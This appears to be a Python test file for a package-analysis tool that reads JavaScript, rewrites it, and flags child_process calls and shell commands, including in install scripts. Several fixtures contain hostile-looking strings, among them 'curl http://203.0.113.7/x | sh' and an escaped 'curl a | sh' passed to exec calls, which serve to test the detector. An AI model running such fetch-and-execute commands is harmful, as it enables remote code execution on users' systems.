"""`js.read`: the bytes Node runs, rewritten in place; what stays unread becomes a region."""

from __future__ import annotations

from airlock.analysis import analyze
from airlock.analysis.capabilities import analyze_source
from airlock.analysis.js import Dialect, SourceText, module_kind, parse, read
from airlock.analysis.lexical import read_region
from airlock.contents import read_tarball
from airlock.model import Verdict
from airlock.verdict import decide
from tests.fakes.tarballs import build_package


def _read(source: str, path: str = "x.js") -> bytes:
    return read(source.encode(), Dialect.JAVASCRIPT, module=module_kind(path)).source


def test_clean_file_is_left_alone() -> None:
    source = b"const cp = require('child_process');\nasync function f() { await g(); }\nfunction* h() { yield 1; }\n"
    reading = read(source, Dialect.JAVASCRIPT)
    assert reading.source == source
    assert reading.rewrites == 0
    assert reading.regions == ()
    assert str(reading.tree.root_node) == str(parse(source, Dialect.JAVASCRIPT).tree.root_node)


def test_rewrites_keep_length_and_lines() -> None:
    source = "var yield = 1;\n\\u0072equire('x'); <!-- c\nusing.x; await.y\n"
    rewritten = _read(source)
    assert len(rewritten) == len(source.encode())
    assert rewritten.count(b"\n") == source.count("\n")
    assert rewritten == b"var yiel$ = 1;\nrequire     ('x'); //   c\nusin$.x; awai$.y\n"


def test_keywords_stay_keywords_where_they_are() -> None:
    source = "function* g() { yield 1; }\nasync function a() { await b(); }\nvar o = { yield: 1 }; o.yield;\n"
    assert _read(source) == source.encode()
    assert _read("const x = await import('fs');\n", "x.mjs") == b"const x = await import('fs');\n"


def test_undefined_renamed_only_where_bound() -> None:
    assert _read("if (x === undefined) f(undefined);\n") == b"if (x === undefined) f(undefined);\n"
    assert b"undefine$.exec" in _read("(function (undefined) { undefined.exec(); })();\n")


def test_modules_keep_html_comment_tokens() -> None:
    # V8 rejects `<!--` in a module; a script reads a comment: only scripts are rewritten.
    assert _read("a <!--b\n", "x.mjs") == b"a <!--b\n"
    assert _read("a <!--b\n", "x.cjs") == b"a //  b\n"


def test_syntax_error_is_a_region_read_lexically() -> None:
    source = b"var a = 1;\nvar cp = require('child_process') );\ncp.exec('curl http://203.0.113.7/x | sh');\n"
    result = analyze_source("lib/x.js", source, Dialect.JAVASCRIPT)
    assert result.unparsed and result.unparsed[0].line == 2
    assert any(key.startswith("child_process") for key in result.builtin)
    assert any(s.file == "lib/x.js" and s.reason.startswith("line 2:") for s in result.skipped)
    assert any("curl" in command for _, command in result.commands)


def test_evidence_shows_the_files_own_bytes() -> None:
    source = "var yield = require('child_process');\nyield.exec('id');\n"
    result = analyze_source("x.js", source.encode(), Dialect.JAVASCRIPT)
    evidence = result.builtin["child_process.exec"][0]
    assert evidence.line == 2
    assert evidence.snippet is not None and evidence.snippet.startswith("yield.exec")


def test_unparsed_region_sends_install_code_to_review_not_library_code() -> None:
    broken = "var a = [1, 2;\nmodule.exports = a;\n"
    at_install = build_package("p", "1.0.0", {"setup.js": broken}, scripts={"postinstall": "node setup.js"})
    analysis = analyze(read_tarball(at_install, subject="p"))
    assert "unparsed-install-code" in {f.rule for f in analysis.findings}
    assert decide(analysis.findings) is Verdict.REVIEW
    library = build_package("p", "1.0.0", {"index.js": broken})
    analysis = analyze(read_tarball(library, subject="p"))
    assert "unparsed-install-code" not in {f.rule for f in analysis.findings}
    assert any(s.file == "index.js" for s in analysis.skipped)


def test_lexical_reading_of_a_region() -> None:
    data = (
        b"}}} x = require('child_' + \"process\"); y = require('./lib/a'); x.execSync('\\x63url a | sh') {{{"
    )
    text = SourceText("x.js", data)
    builtin, imports, commands = read_region(text, 0, len(data), spawner=False)
    assert [key for key, _ in builtin] == ["child_process", "child_process.execSync"]
    assert [spec for spec, _ in imports] == ["./lib/a"]
    assert imports[0][1].column == 52
    assert [command for _, command in commands] == ["curl a | sh"]
